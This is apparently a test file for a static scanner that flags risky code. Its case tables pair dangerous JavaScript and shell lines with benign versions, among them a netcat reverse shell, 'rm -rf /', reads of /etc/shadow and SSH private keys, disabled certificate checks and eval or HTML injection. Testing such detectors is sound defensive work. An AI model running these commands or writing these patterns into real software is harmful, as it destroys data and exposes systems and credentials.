import { describe, expect, it } from 'vitest';

import { findRisks } from '../../src/validation/find-risks.ts';
import type { Risk } from '../../src/validation/risk.ts';
import { readSamples } from './samples.ts';

const grave = (risks: readonly Risk[]): Risk[] =>
  risks.filter(({ severity }) => severity !== 'info');

/** The names of the samples of a kind in which the rules see something grave, or don't. */
async function judge(kind: 'bad' | 'good', flagged: boolean): Promise<string[]> {
  const names: string[] = [];
  for (const sample of readSamples(kind)) {
    if (grave(await findRisks(sample)).length > 0 === flagged) names.push(sample.name);
  }
  return names;
}

describe('the rules, on programs of our own writing', () => {
  it('see 37 of 42 that harm; those on the syntax tree in a sandbox see the rest', async () => {
    expect(readSamples('bad')).toHaveLength(42);
    expect(await judge('bad', false)).toEqual([
      'deletes-home.py',
      'escape-by-subclasses.py',
      'fork-bomb.py',
      'memory-bomb.py',
      'reverse-shell.py',
    ]);
  });

  it('see nothing grave in the 19 that do not', async () => {
    expect(readSamples('good')).toHaveLength(19);
    expect(await judge('good', true)).toEqual([]);
  });

  it('name rule, weakness, place and what to do', async () => {
    const content = 'const a = 1;\n  eval(a);\n';
    expect(await findRisks({ language: 'javascript', content })).toEqual([
      {
        rule: 'js/eval',
        severity: 'error',
        line: 2,
        column: 3,
        cwe: 95,
        message:
          'eval runs text as code. Read data with JSON.parse, or call a function by its name.',
      },
    ]);
  });

  it('say that a text can not be read', async () => {
    const python = await findRisks({ language: 'python', content: 'x = (' });
    expect(python).toMatchObject([{ rule: 'invalid-syntax', severity: 'error' }]);
    const script = await findRisks({ language: 'typescript', content: 'let = = {' });
    expect(script).toMatchObject([{ rule: 'js/syntax-error', severity: 'error' }]);
  });

  it('look for secrets alone where they know no language', async () => {
    const content = 'eval(x)\npassword: "kestrel-91-Vault"\n';
    const found = await findRisks({ language: undefined, content });
    expect(found).toMatchObject([{ rule: 'secret/assigned', line: 2 }]);
  });
});

describe('the rules for JavaScript and TypeScript', () => {
  const cases: readonly [rule: string, bad: string, good: string][] = [
    ['js/implied-eval', 'setTimeout("tick()", 10)', 'setTimeout(() => tick(), 10)'],
    ['js/vm', 'vm.runInNewContext(code)', 'vm.isContext(value)'],
    ['js/dynamic-import', 'await import(name)', "await import('node:fs')"],
    ['js/dynamic-import', 'require(`./${name}`)', 'require(`./part`)'],
    ['js/computed-global', 'globalThis[name]()', "globalThis['parseInt']('1')"],
    ['js/process-internals', "process.binding('fs')", 'process.cwd()'],
    ['js/html-injection', 'document.write(text)', "document.write('<hr>')"],
    [
      'js/html-injection',
      "node.insertAdjacentHTML('beforeend', text)",
      "node.insertAdjacentHTML('beforeend', '<hr>')",
    ],
    [
      'js/html-injection',
      'const a = <p dangerouslySetInnerHTML={{ __html: text }} />;',
      'const a = <p>{text}</p>;',
    ],
    ['js/nosql-injection', 'users.find({ $where: text })', 'users.find({ name: text })'],
    ['js/open-redirect', 'res.redirect(req.query.next)', "res.redirect('/home')"],
    ['js/pattern-from-input', 'new RegExp(req.query.text)', 'new RegExp(pattern)'],
    ['js/unsafe-deserialization', 'serialize.unserialize(text)', 'JSON.parse(text)'],
    ['js/weak-hash', "createHash('md5')", "createHash('sha256')"],
    [
      'js/no-certificate-check',
      "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'",
      "process.env.NODE_ENV = 'test'",
    ],
    [
      'js/exposed-cookie',
      "res.cookie('id', id, { httpOnly: false })",
      "res.cookie('id', id, { httpOnly: true })",
    ],
    [
      'js/deletes-everything',
      "rmSync('/', { recursive: true })",
      "rmSync('build', { recursive: true })",
    ],
    ['js/open-permissions', 'chmodSync(path, 0o777)', 'chmodSync(path, 0o600)'],
    [
      'js/hidden-text',
      `String.fromCharCode(${'101,'.repeat(20)}40)`,
      'String.fromCharCode(101, 118)',
    ],
  ];

  it.each(cases)('%s: sees %s, and nothing in %s', async (rule, bad, good) => {
    const rulesIn = async (content: string): Promise<string[]> =>
      (await findRisks({ language: 'javascript', content })).map((risk) => risk.rule);
    expect(await rulesIn(bad)).toContain(rule);
    expect(await rulesIn(good)).not.toContain(rule);
  });
});

describe('the rules for shell scripts', () => {
  const cases: readonly [rule: string, bad: string, good: string][] = [
    ['sh/deletes-everything', 'rm -rf /', 'rm -rf build/'],
    ['sh/unset-variable-deletes', 'rm -rf $target/', 'rm -rf "${target:?}/cache"'],
    ['sh/reverse-shell', 'nc -e /bin/sh host 1', 'nc -z host 1'],
    ['sh/open-permissions', 'chmod -R 777 .', 'chmod 755 run'],
    ['sh/no-certificate-check', 'curl -k https://host', 'curl https://host'],
    ['sh/sensitive-place', 'cat /etc/shadow', 'cat /etc/hostname'],
    ['sh/sensitive-place', 'cat ~/.ssh/id_rsa', '# cat ~/.ssh/id_rsa'],
  ];

  it.each(cases)('%s: sees %s, and nothing in %s', async (rule, bad, good) => {
    const rulesIn = async (content: string): Promise<string[]> =>
      (await findRisks({ language: 'shell', content })).map((risk) => risk.rule);
    expect(await rulesIn(bad)).toContain(rule);
    expect(await rulesIn(good)).toEqual([]);
  });
});
